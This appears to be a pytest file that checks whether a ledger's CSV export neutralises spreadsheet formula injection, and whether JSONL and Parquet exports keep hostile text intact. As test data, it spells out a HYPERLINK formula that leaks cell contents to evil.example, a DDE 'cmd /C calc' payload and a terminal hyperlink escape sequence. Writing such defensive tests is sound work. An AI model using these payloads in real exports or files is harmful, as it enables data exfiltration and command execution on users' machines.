"""Hostile text through `ledger export` (CONTRACT 9, issue 28 item 5): a CSV cell a spreadsheet
would run stays text; every format takes any text the log can hold, exactly."""
from __future__ import annotations

import csv
import io
import json

import pytest

from tests.builders import command, known
from tests.given import a_shop, agent
from tests.inproc import jsonl, ledger_main

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
# What an agent may put where it is text: a reason, and the ids of the envelope.
HOSTILE_REASONS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1",
                   "-2", "\t=1+1", "\r=1+1", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", "r" * 4096,
                   "abc\u202edcba", "ok"]


def escalations_with_hostile_text(ledger) -> None:
    a_shop(ledger)
    agent(ledger, *(command("Escalate", {"reason": known(reason, "message")}, command_id=f"esc-{i}")
                    for i, reason in enumerate(HOSTILE_REASONS)))
    agent(ledger, command("Escalate", {}, command_id="@SUM(1+1)", agent="+1+1", conversation="-2"))
    # Unreadable lines are kept as a 1 KiB excerpt: a NUL, a lone surrogate, 10,000 characters.
    ledger.handle([b'{"command_id": "\x00", "type": "Escalate"}', b'{"command_id": "\\ud800"}',
                   b'{"command_id": "' + b"x" * 10_000 + b'"}'], "agent")


def csv_rows(out: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(out.decode("utf-8"), newline="")))


@pytest.mark.parametrize("what", ["escalations", "events", "blocks", "intents"])
def test_no_csv_cell_starts_with_what_a_spreadsheet_runs(what, ledger, db_url):
    escalations_with_hostile_text(ledger)

    status, out, err = ledger_main("export", what, "--format", "csv", "--db", db_url)

    assert status == 0, err
    cells = [cell for row in csv_rows(out) for cell in row.values()]
    assert cells and not [cell for cell in cells if cell.startswith(FORMULA_LEADS)]


def test_a_csv_cell_that_would_run_is_the_text_behind_a_quote(ledger, db_url):
    escalations_with_hostile_text(ledger)

    out = ledger_main("export", "escalations", "--format", "csv", "--db", db_url)[1]

    rows = csv_rows(out)
    reasons = [row["reason"] for row in rows if row["reason"]]
    assert reasons == [("'" + r if r.startswith(FORMULA_LEADS) else r) for r in HOSTILE_REASONS]
    [by_ids] = [row for row in rows if not row["reason"]]
    assert by_ids["conversation_id"] == "'-2"


def test_csv_numbers_are_written_as_numbers(ledger, db_url):
    a_shop(ledger)

    out = ledger_main("export", "customers", "--format", "csv", "--db", db_url)[1]

    assert [(r["credit_limit"], r["exposure"]) for r in csv_rows(out)] == [("1000000", "0")]


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_typed_formats_keep_hostile_text_exactly(fmt, ledger, db_url, tmp_path):
    escalations_with_hostile_text(ledger)
    out = tmp_path / f"escalations.{fmt}"

    status, _, err = ledger_main("export", "escalations", "--format", fmt, "--out", str(out), "--db", db_url)

    assert status == 0, err
    if fmt == "jsonl":
        reasons = [row["reason"] for row in jsonl(out.read_bytes())]
    else:
        reasons = pytest.importorskip("pyarrow.parquet").read_table(out).column("reason").to_pylist()
    assert [r for r in reasons if r is not None] == HOSTILE_REASONS


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "parquet"])
def test_the_excerpts_of_unreadable_lines_export_in_every_format(fmt, ledger, db_url, tmp_path):
    escalations_with_hostile_text(ledger)
    out = tmp_path / f"events.{fmt}"

    status, _, err = ledger_main("export", "events", "--format", fmt, "--type", "CommandRejected",
                                 "--out", str(out), "--db", db_url)

    assert status == 0, err
    if fmt == "csv":
        raws = [json.loads(row["fields"])["raw"] for row in csv_rows(out.read_bytes())]
    elif fmt == "jsonl":
        raws = [row["fields"]["raw"] for row in jsonl(out.read_bytes())]
    else:
        fields = pytest.importorskip("pyarrow.parquet").read_table(out).column("fields").to_pylist()
        raws = [json.loads(f)["raw"] for f in fields]
    assert raws == [e.raw for _, e in ledger.store.notifications(types=["CommandRejected"])]
    assert len(raws) == 3 and "\\ud800" in raws[1] and len(raws[2]) <= 1024
